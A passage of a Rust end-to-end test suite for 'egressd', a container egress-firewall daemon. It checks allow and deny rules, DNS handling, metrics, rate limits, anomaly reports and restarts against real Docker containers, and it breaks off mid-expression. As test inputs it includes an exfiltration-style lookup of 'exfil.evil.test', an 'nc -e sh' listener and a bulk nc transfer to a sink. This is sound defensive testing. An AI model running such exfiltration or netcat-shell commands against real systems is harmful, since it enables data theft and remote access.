//! End-to-end: the real `egressd` binary, a real dockerd, real containers and real packets.
//!
//! Topology (all made by the test, torn down after):
//! - an `--internal` Docker network 10.231.N.0/24 (no route off the host);
//! - two fake API servers on it (busybox httpd on 443 and 8443): "api" (.10) and "other" (.11);
//! - a fake upstream DNS (the `fake_dns` example) on the network's gateway address, mapping
//!   api.openai.com (and test names) to those servers;
//! - a data sink (`nc -ll` on 9000) at .12, for the big-flow anomaly;
//! - the daemon, with that DNS as its only upstream and its metrics on a loopback port.
//!
//! Everything runs in one #[test] so the image, network and daemon are built once; each
//! scenario is a function, and a failure names it. Disruptive scenarios (kill -9, dockerd
//! restart) come last. Needs root and dockerd (scripts/test.sh starts it).

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use egressd::events::{Event, EventKind};
use egressd::status::{State, StatusReport};

const IMAGE: &str = "egressd-test-busybox";
const LABEL: &str = "egressd-e2e";

fn sh(args: &[&str]) -> (bool, String) {
    let out = Command::new(args[0])
        .args(&args[1..])
        .output()
        .unwrap_or_else(|e| panic!("{args:?}: {e}"));
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.success(), text)
}

fn must(args: &[&str]) -> String {
    let (ok, out) = sh(args);
    assert!(ok, "{args:?} failed: {out}");
    out.trim().to_string()
}

/// Directory of the test binary's target profile (target/debug), where cargo also puts examples.
fn target_dir() -> PathBuf {
    let exe = std::env::current_exe().unwrap();
    exe.parent().unwrap().parent().unwrap().to_path_buf()
}

/// Builds the busybox image FROM scratch (Debian's busybox-static; no registry needed).
pub fn build_image() {
    let dir = std::env::temp_dir().join("egressd-e2e-image");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy("/bin/busybox", dir.join("busybox")).expect("busybox-static installed");
    std::fs::write(
        dir.join("Dockerfile"),
        "FROM scratch\nCOPY busybox /bin/busybox\nRUN [\"/bin/busybox\", \"--install\", \"-s\", \"/bin\"]\nCMD [\"sh\"]\n",
    )
    .unwrap();
    must(&["docker", "build", "-q", "-t", IMAGE, dir.to_str().unwrap()]);
}

struct Fixture {
    net: String,
    /// 10.231.N
    prefix: String,
    dir: PathBuf,
    dns: Option<Child>,
    daemon: Option<Child>,
}

impl Fixture {
    fn new() -> Fixture {
        cleanup_leftovers();
        build_image();
        let n = 100 + (std::process::id() % 100);
        let prefix = format!("10.231.{n}");
        let net = format!("egressd-e2e-{n}");
        must(&[
            "docker",
            "network",
            "create",
            "--internal",
            "--subnet",
            &format!("{prefix}.0/24"),
            // Dynamic addresses from .128 up; the servers below have fixed ones under it.
            "--ip-range",
            &format!("{prefix}.128/25"),
            "--gateway",
            &format!("{prefix}.1"),
            "--label",
            LABEL,
            &net,
        ]);
        let dir = std::env::temp_dir().join(format!("egressd-e2e-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        let mut f = Fixture {
            net,
            prefix,
            dir,
            dns: None,
            daemon: None,
        };
        for (name, host) in [
            ("egressd-e2e-api", 10),
            ("egressd-e2e-other", 11),
            // DNS rotation targets (.20-.23 are handed out, .24 never is) and a private
            // address outside `rebind_allow` (.100) for the proxy-mode scenarios.
            ("egressd-e2e-rot20", 20),
            ("egressd-e2e-rot21", 21),
            ("egressd-e2e-rot22", 22),
            ("egressd-e2e-rot23", 23),
            ("egressd-e2e-rot24", 24),
            ("egressd-e2e-private", 100),
        ] {
            f.run_container(
                name,
                &["--ip", &f.ip(host), "--restart", "always"],
                &[],
                "mkdir -p /www && echo ok > /www/index.html && httpd -p 443 -h /www && httpd -p 8443 -h /www && httpd -f -p 80 -h /www",
            );
        }
        f.run_container(
            "egressd-e2e-sink",
            &["--ip", &f.ip(12), "--restart", "always"],
            &[],
            // Reads each connection to its end (a plain `nc -l` half-closes at once, and
            // busybox's client then stops sending).
            "nc -ll -p 9000 -e sh -c 'cat > /dev/null'",
        );
        f.write_records(&[("api.openai.com", 10), ("api.anthropic.com", 11)], 2);
        f.start_dns();
        f.write_config("");
        f.start_daemon();
        f
    }

    fn ip(&self, host: u8) -> String {
        format!("{}.{host}", self.prefix)
    }

    fn gateway(&self) -> String {
        self.ip(1)
    }

    fn socket(&self) -> PathBuf {
        self.dir.join("egressd.sock")
    }

    fn config_path(&self) -> PathBuf {
        self.dir.join("config.toml")
    }

    /// The daemon's metrics endpoint (loopback only).
    fn metrics_addr(&self) -> String {
        format!("127.0.0.1:{}", 19000 + std::process::id() % 1000)
    }

    /// `GET /metrics`, parsed: series (`name{labels}`) → value.
    fn scrape(&self) -> std::collections::BTreeMap<String, f64> {
        use std::io::{Read, Write};
        let mut conn = std::net::TcpStream::connect(self.metrics_addr()).expect("metrics endpoint");
        conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        conn.write_all(b"GET /metrics HTTP/1.1\r\nHost: egressd\r\nConnection: close\r\n\r\n")
            .unwrap();
        let mut text = String::new();
        conn.read_to_string(&mut text).unwrap();
        let (head, body) = text.split_once("\r\n\r\n").expect("HTTP response");
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        assert!(
            body.trim_end().ends_with("# EOF"),
            "OpenMetrics ends with # EOF:\n{body}"
        );
        body.lines()
            .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
            .map(|l| {
                let (series, value) = l.rsplit_once(' ').expect("SERIES VALUE");
                let v: f64 = value.parse().unwrap_or_else(|_| panic!("value of {l:?}"));
                (series.to_string(), v)
            })
            .collect()
    }

    /// Writes the fake DNS's records: `records` (name, server number, with `ttl`), plus the
    /// fixed records of the proxy-mode scenarios.
    fn write_records(&self, records: &[(&str, u8)], ttl: u32) {
        let p = &self.prefix;
        let mut text = format!(
            "rot.test ROTATE A {p}.20-23 1\n\
             a.allowed.test A {p}.10 30\n\
             allowed.test A {p}.10 30\n\
             a.allowed.test.evil.test A {p}.10 30\n\
             rebind.test A {p}.100 30\n\
             evil.test SOA 5\n"
        );
        for (name, host) in records {
            text.push_str(&format!("{name} A {} {ttl}\n", self.ip(*host)));
        }
        let tmp = self.dir.join("records.tmp");
        std::fs::write(&tmp, text).unwrap();
        std::fs::rename(&tmp, self.dir.join("records")).unwrap();
    }

    fn write_config(&self, extra: &str) {
        let profiles = Path::new(env!("CARGO_MANIFEST_DIR")).join("profiles");
        std::fs::write(
            self.config_path(),
            format!(
                "profile_dirs = [\"{}\"]\n{extra}\n[dns]\nmode = \"resolve\"\nupstreams = [\"{}:53\"]\nmin_ttl = 1\nmax_ttl = 60\ngrace = 3\nupstream_timeout = 1\nrebind_allow = [\"{}.0/26\"]\n[control]\nsocket = \"{}\"\n[metrics]\nlisten = \"{}\"\n[anomaly]\nbytes_per_flow = 200000\n",
                profiles.display(),
                self.gateway(),
                self.prefix,
                self.socket().display(),
                self.metrics_addr()
            ),
        )
        .unwrap();
    }

    fn start_dns(&mut self) {
        let bin = target_dir().join("examples/fake_dns");
        let mut child = Command::new(&bin)
            .args([
                "--listen",
                &format!("{}:53", self.gateway()),
                "--records",
                self.dir.join("records").to_str().unwrap(),
                "--log",
                self.dir.join("dns.log").to_str().unwrap(),
            ])
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .unwrap_or_else(|e| panic!("start {}: {e}", bin.display()));
        let mut out = BufReader::new(child.stdout.take().unwrap());
        let mut seen = String::new();
        loop {
            let mut line = String::new();
            if out.read_line(&mut line).unwrap() == 0 {
                panic!("fake DNS exited before it was ready: {seen}");
            }
            seen.push_str(&line);
            if line.trim() == "ready" {
                break;
            }
        }
        self.dns = Some(child);
    }

    fn start_daemon(&mut self) {
        let log = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(self.dir.join("daemon.log"))
            .unwrap();
        let child = Command::new(env!("CARGO_BIN_EXE_egressd"))
            .args(["run", "--config", self.config_path().to_str().unwrap()])
            .env("EGRESSD_LOG", "debug")
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .spawn()
            .unwrap();
        self.daemon = Some(child);
        assert!(
            wait(Duration::from_secs(20), || self.status().is_some()),
            "daemon did not become ready:\n{}",
            self.daemon_log()
        );
    }

    fn kill9_daemon(&mut self) {
        if let Some(mut d) = self.daemon.take() {
            let _ = d.kill(); // SIGKILL
            let _ = d.wait();
        }
    }

    fn daemon_log(&self) -> String {
        std::fs::read_to_string(self.dir.join("daemon.log")).unwrap_or_default()
    }

    fn status(&self) -> Option<StatusReport> {
        let out = Command::new(env!("CARGO_BIN_EXE_egressd"))
            .args([
                "status",
                "--json",
                "--socket",
                self.socket().to_str().unwrap(),
            ])
            .output()
            .ok()?;
        if !out.status.success() {
            return None;
        }
        serde_json::from_slice(&out.stdout).ok()
    }

    fn state_of(&self, name: &str) -> Option<State> {
        self.status()?
            .containers
            .into_iter()
            .find(|c| c.name == name)
            .map(|c| c.state)
    }

    /// `docker run -d` on the test network; returns the container id.
    fn run_container(
        &self,
        name: &str,
        docker_args: &[&str],
        labels: &[(&str, &str)],
        cmd: &str,
    ) -> String {
        let _ = sh(&["docker", "rm", "-f", name]);
        let mut args: Vec<String> = [
            "docker",
            "run",
            "-d",
            "--name",
            name,
            "--label",
            LABEL,
            "--network",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        if !docker_args.contains(&"--network") {
            args.push(self.net.clone());
        } else {
            args.pop();
        }
        args.extend(docker_args.iter().map(|s| s.to_string()));
        for (k, v) in labels {
            args.push("--label".into());
            args.push(format!("{k}={v}"));
        }
        args.extend([IMAGE.to_string(), "sh".into(), "-c".into(), cmd.to_string()]);
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        must(&refs)
    }

    /// A labelled agent container that sleeps; waits until the daemon reports it.
    fn agent(&self, name: &str, labels: &[(&str, &str)]) -> String {
        let mut all = vec![("egressd.enable", "true")];
        all.extend_from_slice(labels);
        let id = self.run_container(name, &["--dns", &self.gateway()], &all, "sleep 3600");
        assert!(
            wait(Duration::from_secs(15), || self.state_of(name).is_some()),
            "{name} never showed in status:\n{}",
            self.daemon_log()
        );
        id
    }

    /// Whether a TCP connection from `container` to ip:port succeeds.
    fn connects(&self, container: &str, ip: &str, port: u16) -> bool {
        sh(&[
            "docker",
            "exec",
            container,
            "nc",
            "-w",
            "2",
            ip,
            &port.to_string(),
        ])
        .0
    }

    /// `docker exec CONTAINER sh -c SCRIPT`: success and stdout+stderr.
    fn exec(&self, container: &str, script: &str) -> (bool, String) {
        sh(&["docker", "exec", container, "sh", "-c", script])
    }

    /// Addresses busybox `nslookup NAME [SERVER]` prints in the container, or the error
    /// text (`REFUSED`, `NXDOMAIN`…) when it found none.
    fn lookup(
        &self,
        container: &str,
        name: &str,
        server: Option<&str>,
    ) -> Result<Vec<String>, String> {
        let (_, out) = self.exec(
            container,
            &format!("nslookup {name} {}", server.unwrap_or("")),
        );
        let addrs: Vec<String> = out
            .lines()
            .filter_map(|l| l.strip_prefix("Address: "))
            .map(|a| a.trim().to_string())
            .collect();
        if addrs.is_empty() {
            Err(out)
        } else {
            Ok(addrs)
        }
    }

    /// One DNS query over TCP from inside the container (busybox nc; the answer's rcode and
    /// addresses).
    fn tcp_lookup(&self, container: &str, server: &str, name: &str) -> (String, Vec<String>) {
        use hickory_proto::op::{Message, MessageType, OpCode, Query};
        use hickory_proto::rr::{Name, RData, RecordType};
        let mut m = Message::new();
        m.set_id(4242)
            .set_message_type(MessageType::Query)
            .set_op_code(OpCode::Query)
            .set_recursion_desired(true)
            .add_query(Query::query(Name::from_ascii(name).unwrap(), RecordType::A));
        let q = m.to_vec().unwrap();
        let mut framed = (q.len() as u16).to_be_bytes().to_vec();
        framed.extend_from_slice(&q);
        let mut child = Command::new("docker")
            .args(["exec", "-i", container, "sh", "-c"])
            .arg(format!("(cat; sleep 1) | nc -w 3 {server} 53"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        {
            use std::io::Write;
            let mut stdin = child.stdin.take().unwrap();
            stdin.write_all(&framed).unwrap();
        }
        let out = child.wait_with_output().unwrap();
        let raw = out.stdout;
        if raw.len() < 14 {
            return (
                format!(
                    "no answer ({} bytes): {}",
                    raw.len(),
                    String::from_utf8_lossy(&out.stderr)
                ),
                vec![],
            );
        }
        let r = Message::from_vec(&raw[2..]).expect("TCP answer parses");
        let addrs = r
            .answers()
            .iter()
            .filter_map(|rec| match rec.data() {
                RData::A(a) => Some(a.0.to_string()),
                _ => None,
            })
            .collect();
        (r.response_code().to_string(), addrs)
    }

    /// `egressd status NAME --json`: one container, with its last events.
    fn container_status(&self, name: &str) -> Option<egressd::status::ContainerStatus> {
        let out = Command::new(env!("CARGO_BIN_EXE_egressd"))
            .args([
                "status",
                name,
                "--json",
                "--socket",
                self.socket().to_str().unwrap(),
            ])
            .output()
            .ok()?;
        let report: StatusReport = serde_json::from_slice(&out.stdout).ok()?;
        report.containers.into_iter().find(|c| c.name == name)
    }

    /// Waits until container `name` reports an event that `f` accepts; returns it.
    fn wait_event(&self, name: &str, f: impl Fn(&Event) -> bool) -> Event {
        let mut last = None;
        let found = wait(Duration::from_secs(10), || {
            last = self.container_status(name);
            last.as_ref().is_some_and(|c| c.events.iter().any(&f))
        });
        assert!(
            found,
            "no such event of {name}; status: {last:#?}\n{}",
            self.daemon_log()
        );
        last.unwrap().events.into_iter().find(|e| f(e)).unwrap()
    }

    fn has_egressd_table(&self, container: &str) -> bool {
        let pid = must(&["docker", "inspect", "-f", "{{.State.Pid}}", container]);
        let (_, out) = sh(&["nsenter", "-t", &pid, "-n", "nft", "list", "tables"]);
        out.contains("inet egressd")
    }
}

impl Drop for Fixture {
    fn drop(&mut self) {
        unregister_runtime();
        self.kill9_daemon();
        if let Some(mut d) = self.dns.take() {
            let _ = d.kill();
            let _ = d.wait();
        }
        if std::env::var_os("EGRESSD_E2E_KEEP").is_none() {
            cleanup_leftovers();
        }
    }
}

fn cleanup_leftovers() {
    let (_, ids) = sh(&["docker", "ps", "-aq", "--filter", &format!("label={LABEL}")]);
    let ids: Vec<&str> = ids.split_whitespace().collect();
    if !ids.is_empty() {
        let mut args = vec!["docker", "rm", "-f"];
        args.extend(ids);
        let _ = sh(&args);
    }
    let (_, nets) = sh(&[
        "docker",
        "network",
        "ls",
        "-q",
        "--filter",
        &format!("label={LABEL}"),
    ]);
    for n in nets.split_whitespace() {
        let _ = sh(&["docker", "network", "rm", n]);
    }
}

fn wait(max: Duration, mut f: impl FnMut() -> bool) -> bool {
    let end = Instant::now() + max;
    loop {
        if f() {
            return true;
        }
        if Instant::now() > end {
            return false;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Runs one scenario. While developing, `EGRESSD_E2E_ONLY=text` runs only the scenarios whose
/// name contains `text` (later scenarios may rely on earlier ones; CI runs them all).
fn scenario(name: &str, f: impl FnOnce()) {
    if let Ok(only) = std::env::var("EGRESSD_E2E_ONLY")
        && !name.contains(&only)
    {
        return;
    }
    eprintln!("--- scenario: {name}");
    let t = Instant::now();
    f();
    eprintln!("--- ok: {name} ({:.1}s)", t.elapsed().as_secs_f64());
}

#[test]
fn docker_end_to_end() {
    let mut fx = Fixture::new();
    let (api, other) = (fx.ip(10), fx.ip(11));

    scenario(
        "allowed domain reachable, its other ports and other hosts rejected",
        || {
            fx.agent("egressd-e2e-agent", &[("egressd.profiles", "openai")]);
            assert!(
                wait(Duration::from_secs(10), || fx.connects(
                    "egressd-e2e-agent",
                    &api,
                    443
                )),
                "api.openai.com:443 must connect:\n{}",
                fx.daemon_log()
            );
            assert!(
                !fx.connects("egressd-e2e-agent", &api, 8443),
                "other port of the allowed host"
            );
            assert!(
                !fx.connects("egressd-e2e-agent", &other, 443),
                "an IP literal not in the policy"
            );
            assert_eq!(fx.state_of("egressd-e2e-agent"), Some(State::Enforced));
            let st = fx.status().unwrap();
            let c = st
                .containers
                .iter()
                .find(|c| c.name == "egressd-e2e-agent")
                .unwrap();
            let host = c
                .hosts
                .iter()
                .find(|h| h.host == "api.openai.com")
                .expect("host in status");
            assert_eq!(
                host.addrs.first().map(|a| a.addr.to_string()),
                Some(api.clone())
            );
            assert!(c.denied_packets >= 2, "denied counter: {c:?}");
        },
    );

    scenario("unlabelled container is untouched", || {
        fx.run_container("egressd-e2e-plain", &[], &[], "sleep 3600");
        std::thread::sleep(Duration::from_millis(500));
        assert!(!fx.has_egressd_table("egressd-e2e-plain"));
        assert!(fx.connects("egressd-e2e-plain", &other, 8443));
        assert!(fx.state_of("egressd-e2e-plain").is_none());
    });

    scenario(
        "events: a denied attempt names its container, destination and domain (resolve and proxy mode)",
        || {
            fx.agent("egressd-e2e-ev", &[("egressd.profiles", "openai")]);
            assert!(wait(Duration::from_secs(10), || fx.connects(
                "egressd-e2e-ev",
                &api,
                443
            )));
            assert!(!fx.connects("egressd-e2e-ev", &api, 8443));
            assert!(!fx.connects("egressd-e2e-ev", &other, 443));
            let e = fx.wait_event("egressd-e2e-ev", |e| e.port == Some(8443));
            assert_eq!(e.kind, EventKind::Deny);
            assert_eq!(e.dst.map(|a| a.to_string()), Some(api.clone()));
            assert_eq!(e.proto.as_deref(), Some("tcp"));
            assert_eq!(e.domains, vec!["api.openai.com".to_string()]);
            // An address the container never resolved: no domain to name.
            let e = fx.wait_event("egressd-e2e-ev", |e| {
                e.dst.map(|a| a.to_string()) == Some(other.clone())
            });
            assert_eq!((e.kind, e.port), (EventKind::Deny, Some(443)));
            assert!(e.domains.is_empty(), "{e:?}");
            // The same event is in the daemon's log, with the container.
            assert!(
                fx.daemon_log().lines().any(|l| l.contains("egress denied")
                    && l.contains("egressd-e2e-ev")
                    && l.contains(&api)
                    && l.contains("8443")
                    && l.contains("api.openai.com")),
                "no log line for the denial:\n{}",
                fx.daemon_log()
            );

            // Proxy mode: the name comes from what the container's own query got.
            fx.agent(
                "egressd-e2e-evpx",
                &[
                    ("egressd.dns", "proxy"),
                    ("egressd.allow", "api.openai.com"),
                ],
            );
            assert_eq!(
                fx.lookup("egressd-e2e-evpx", "api.openai.com", None),
                Ok(vec![api.clone()])
            );
            assert!(!fx.connects("egressd-e2e-evpx", &api, 8443));
            let e = fx.wait_event("egressd-e2e-evpx", |e| e.port == Some(8443));
            assert_eq!(e.domains, vec!["api.openai.com".to_string()]);
            assert!(
                fx.lookup("egressd-e2e-evpx", "exfil.evil.test", None)
                    .is_err()
            );
            let e = fx.wait_event("egressd-e2e-evpx", |e| e.kind == EventKind::DnsRefused);
            assert_eq!(e.name.as_deref(), Some("exfil.evil.test"));
        },
    );

    scenario(
        "metrics: the endpoint is scraped and parsed, and its counters move with real traffic",
        || {
            let c = "egressd-e2e-ev";
            let allowed =
                "egressd_allowed_bytes_total{container=\"egressd-e2e-ev\",host=\"api.openai.com\"}";
            let denied = "egressd_denied_packets_total{container=\"egressd-e2e-ev\"}";
            fx.container_status(c).unwrap(); // reads the kernel counters into the metrics
            let before = fx.scrape();
            let get = |m: &std::collections::BTreeMap<String, f64>, k: &str| {
                m.get(k).copied().unwrap_or(0.0)
            };
            let (_, out) = fx.exec(c, &format!("wget -q -O - http://{api}:443/"));
            assert_eq!(out.trim(), "ok", "allowed request");
            assert!(!fx.connects(c, &api, 8443));
            fx.container_status(c).unwrap();
            let after = fx.scrape();
            assert!(
                get(&after, allowed) > get(&before, allowed),
                "allowed bytes did not grow: {} -> {}\n{after:#?}",
                get(&before, allowed),
                get(&after, allowed)
            );
            assert!(get(&after, denied) > get(&before, denied), "{after:#?}");
            assert!(get(&after, "egressd_containers{state=\"enforced\"}") >= 2.0);
            assert!(get(&after, "egressd_apply_duration_seconds_count") >= 2.0);
            let dns =
                "egressd_dns_queries_total{container=\"egressd-e2e-evpx\",verdict=\"refused\"}";
            assert!(get(&after, dns) >= 1.0, "{after:#?}");
        },
    );

    scenario(
        "limit label: connections beyond the budget are rejected by the kernel and reported",
        || {
            fx.agent(
                "egressd-e2e-limit",
                &[
                    ("egressd.profiles", "openai"),
                    ("egressd.limit", "conn:3/minute"),
                ],
            );
            let tries: Vec<bool> = (0..5)
                .map(|_| fx.connects("egressd-e2e-limit", &api, 443))
                .collect();
            assert_eq!(tries, [true, true, true, false, false], "conn:3/minute");
            let e = fx.wait_event("egressd-e2e-limit", |e| e.kind == EventKind::Limit);
            assert_eq!(e.dst.map(|a| a.to_string()), Some(api.clone()));
            assert_eq!(e.domains, vec!["api.openai.com".to_string()]);
            let c = fx.container_status("egressd-e2e-limit").unwrap();
            assert!(c.limited_packets >= 2, "{c:?}");
            assert!(fx.daemon_log().contains("over budget"));
        },
    );

    scenario(
        "anomaly: a flow sending more than bytes_per_flow is reported once, not cut",
        || {
            let sink = fx.ip(12);
            fx.agent(
                "egressd-e2e-big",
                &[("egressd.allow", &format!("{sink}:9000"))],
            );
            let (ok, out) = fx.exec(
                "egressd-e2e-big",
                &format!("head -c 600000 /dev/zero | nc {sink} 9000 && echo SENT"),
            );
            assert!(ok && out.contains("SENT"), "transfer to the sink: {out}");
            let e = fx.wait_event("egressd-e2e-big", |e| e.kind == EventKind::AnomalyFlow);
            assert_eq!(e.dst.map(|a| a.to_string()), Some(sink.clone()));
            assert_eq!(e.port, Some(9000));
            let c = fx.container_status("egressd-e2e-big").unwrap();
            let n = c
                .events
                .iter()
                .filter(|e| e.kind == EventKind::AnomalyFlow)
                .count();
            assert_eq!(n, 1, "one warning per flow: {:?}", c.events);
            let host = c.hosts.iter().find(|h| h.host == sink).unwrap();
            assert!(host.bytes >= 600_000, "per-host bytes: {host:?}");
        },
    );

    scenario(
        "bad allow label or unknown profile quarantines, and status says why",
        || {
            fx.agent("egressd-e2e-bad", &[("egressd.allow", "api.openai.com:0")]);
            fx.agent(
                "egressd-e2e-unknown",
                &[("egressd.profiles", "openai,no-such-profile")],
            );
            for name in ["egressd-e2e-bad", "egressd-e2e-unknown"] {
                assert_eq!(fx.state_of(name), Some(State::Quarantined), "{name}");
                assert!(!fx.connects(name, &api, 443), "{name}: all egress rejected");
                assert!(
                    !fx.connects(name, &other, 80),
                    "{name}: all egress rejected"
                );
            }
            let st = fx.status().unwrap();
            let bad = st
                .containers
                .iter()
                .find(|c| c.name == "egressd-e2e-bad")
                .unwrap();
            assert!(
                bad.errors
                    .iter()
                    .any(|e| e.contains("egressd.allow") && e.contains("port 0")),
                "{bad:?}"
            );
            let unk = st
                .containers
                .iter()
                .find(|c| c.name == "egressd-e2e-unknown")
                .unwrap();
            assert!(
                unk.errors.iter().any(|e| e.contains("no-such-profile")),
                "{unk:?}"
            );
        },
    );

    scenario(
        "host network and NET_ADMIN with the label are stopped",
        || {
            let host = fx.run_container(
                "egressd-e2e-hostnet",
                &["--network", "host"],
                &[("egressd.enable", "true")],
                "sleep 3600",
            );
            let cap = fx.run_container(
                "egressd-e2e-netadmin",
                &["--cap-add", "NET_ADMIN"],
                &[("egressd.enable", "true")],
                "sleep 3600",
            );
            for id in [host, cap] {
                assert!(
                    wait(Duration::from_secs(15), || must(&[
                        "docker",
                        "inspect",
                        "-f",
                        "{{.State.Running}}",
                        &id
                    ]) == "false"),
                    "unenforceable container {id} must be stopped:\n{}",
                    fx.daemon_log()
                );
            }
            assert_eq!(
                fx.state_of("egressd-e2e-netadmin"),
                Some(State::Unenforceable)
            );
        },
    );

    scenario(
        "DNS change: new IP usable within the refresh bound, old IP until TTL + grace",
        || {
            fx.write_records(&[("api.openai.com", 11), ("api.anthropic.com", 11)], 2);
            // TTL 2 s (min_ttl 1): the daemon re-resolves within ~2 s.
            assert!(
                wait(Duration::from_secs(8), || fx.connects(
                    "egressd-e2e-agent",
                    &other,
                    443
                )),
                "new address usable after the refresh:\n{}",
                fx.daemon_log()
            );
            // The old address was allowed until last answer + TTL 2 + grace 3.
            assert!(
                wait(Duration::from_secs(15), || !fx.connects(
                    "egressd-e2e-agent",
                    &api,
                    443
                )),
                "old address must expire"
            );
            assert!(fx.connects("egressd-e2e-agent", &other, 443));
            fx.write_records(&[("api.openai.com", 10), ("api.anthropic.com", 11)], 2);
            assert!(wait(Duration::from_secs(8), || fx.connects(
                "egressd-e2e-agent",
                &api,
                443
            )));
        },
    );

    scenario("docker restart re-enforces the new namespace", || {
        must(&["docker", "restart", "-t", "0", "egressd-e2e-agent"]);
        assert!(wait(Duration::from_secs(15), || fx
            .has_egressd_table("egressd-e2e-agent")));
        assert!(wait(Duration::from_secs(10), || fx.connects(
            "egressd-e2e-agent",
            &api,
            443
        )));
        assert!(!fx.connects("egressd-e2e-agent", &api, 8443));
        assert_eq!(fx.state_of("egressd-e2e-agent"), Some(State::Enforced));
    });

    scenario(
        "40 labelled containers started at once are all enforced",
        || {
            let names: Vec<String> = (0..40).map(|i| format!("egressd-e2e-many-{i}")).collect();
            let handles: Vec<_> = names
                .iter()
                .map(|n| {
                    let args = vec![
                        "docker".to_string(),
                        "run".into(),
                        "-d".into(),
                        "--name".into(),
                        n.clone(),
                        "--label".into(),
                        LABEL.into(),
                        "--label".into(),
                        "egressd.enable=true".into(),
                        "--label".into(),
                        format!("egressd.allow={api}:443"),
                        "--network".into(),
                        fx.net.clone(),
                        IMAGE.into(),
                        "sleep".into(),
                        "3600".into(),
                    ];
                    std::thread::spawn(move || {
                        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
                        must(&refs);
                    })
                })
                .collect();
            for h in handles {
                h.join().unwrap();
            }
            assert!(
                wait(Duration::from_secs(30), || {
                    let st = fx.status().unwrap_or_else(|| panic!("status"));
                    names.iter().all(|n| {
                        st.containers
                            .iter()
                            .any(|c| &c.name == n && c.state == State::Enforced)
                    })
                }),
                "all 40 enforced:\n{}",
                fx.daemon_log()
            );
            for n in &names {
                assert!(fx.has_egressd_table(n), "{n} has its table");
            }
            for n in names.iter().step_by(8) {
                assert!(fx.connects(n, &api, 443), "{n} allowed");
                assert!(!fx.connects(n, &api, 8443), "{n} denied");
            }
            let mut rm = vec!["docker", "rm", "-f"];
            rm.extend(names.iter().map(String::as_str));
            must(&rm);
            assert!(
                wait(Duration::from_secs(10), || {
                    let st = fx.status().unwrap();
                    !st.containers
                        .iter()
                        .any(|c| c.name.starts_with("egressd-e2e-many-"))
                }),
                "state of removed containers is dropped"
            );
        },
    );

    scenario(
        "reload: a bad config is rejected and the old one stays",
        || {
            std::fs::write(fx.config_path(), "nflog_group = \"not a number\"\n").unwrap();
            let (ok, out) = sh(&[
                env!("CARGO_BIN_EXE_egressd"),
                "reload",
                "--socket",
                fx.socket().to_str().unwrap(),
            ]);
            assert!(!ok, "bad reload must fail: {out}");
            assert!(
                out.contains("config.toml:1:15") && out.contains("not a number"),
                "error names file:line:column and the token: {out}"
            );
            assert_eq!(fx.state_of("egressd-e2e-agent"), Some(State::Enforced));
            fx.write_config("");
            let (ok, out) = sh(&[
                env!("CARGO_BIN_EXE_egressd"),
                "reload",
                "--socket",
                fx.socket().to_str().unwrap(),
            ]);
            assert!(ok, "good reload: {out}");
            assert!(fx.connects("egressd-e2e-agent", &api, 443));
        },
    );

    proxy_scenarios(&mut fx);

    scenario(
        "explain: allowed name, expired address, unlisted address, quarantined container",
        || {
            let explain = |c: &str, dest: &str| -> (i32, egressd::explain::Explanation) {
                let out = Command::new(env!("CARGO_BIN_EXE_egressd"))
                    .args(["explain", c, dest, "--json", "--socket"])
                    .arg(fx.socket())
                    .output()
                    .unwrap();
                let e = serde_json::from_slice(&out.stdout).unwrap_or_else(|err| {
                    panic!(
                        "explain {c} {dest}: {err}: {}{}",
                        String::from_utf8_lossy(&out.stdout),
                        String::from_utf8_lossy(&out.stderr)
                    )
                });
                (out.status.code().unwrap_or(-1), e)
            };
            use egressd::explain::Verdict;
            // Allowed name (resolve mode, profile openai), by name and by address.
            let (code, e) = explain("egressd-e2e-agent", "api.openai.com");
            assert_eq!((code, e.verdict), (0, Verdict::Allowed), "{e:?}");
            assert!(e.reasons[0].contains("profile openai"), "{e:?}");
            assert!(e.reasons.iter().any(|r| r.contains(&api)), "{e:?}");
            let (code, e) = explain("egressd-e2e-agent", &api);
            assert_eq!((code, e.verdict), (0, Verdict::Allowed), "{e:?}");
            assert!(
                e.reasons.iter().any(|r| r.contains("kernel's set holds")),
                "{e:?}"
            );
            // Unlisted address, and another port of the allowed one.
            let (code, e) = explain("egressd-e2e-agent", &other);
            assert_eq!((code, e.verdict), (1, Verdict::Denied), "{e:?}");
            assert!(e.reasons[0].contains("no rule allows"), "{e:?}");
            assert!(e.reasons.iter().any(|r| r.contains("do not hold")), "{e:?}");
            let (_, e) = explain("egressd-e2e-agent", &format!("{api}:8443"));
            assert_eq!(e.verdict, Verdict::Denied, "{e:?}");
            // Expired: the rotation container's addresses lived TTL 1 s + grace 3 s.
            std::thread::sleep(Duration::from_secs(5));
            let (code, e) = explain("egressd-e2e-px-rot", &format!("{}.20", fx.prefix));
            assert_eq!((code, e.verdict), (1, Verdict::Denied), "{e:?}");
            assert!(
                e.reasons[0].contains("was an address of rot.test until"),
                "{e:?}"
            );
            // Quarantined.
            let (code, e) = explain("egressd-e2e-bad", "api.openai.com");
            assert_eq!((code, e.verdict), (1, Verdict::Denied), "{e:?}");
            assert!(
                e.reasons[0].contains("quarantined") && e.reasons[0].contains("port 0"),
                "{e:?}"
            );
        },
    );

    runtime_scenarios(&mut fx);

    scenario(
        "kill -9 and restart of the daemon under a probe loop: zero forbidden successes",
        || {
            fx.agent("egressd-e2e-prober", &[("egressd.profiles", "openai")]);
            assert!(wait(Duration::from_secs(10), || fx.connects(
                "egressd-e2e-prober",
                &api,
                443
            )));
            // The probe loop runs inside the container the whole time and records every success.
            must(&[
                "docker",
                "exec",
                "-d",
                "egressd-e2e-prober",
                "sh",
                "-c",
                &format!(
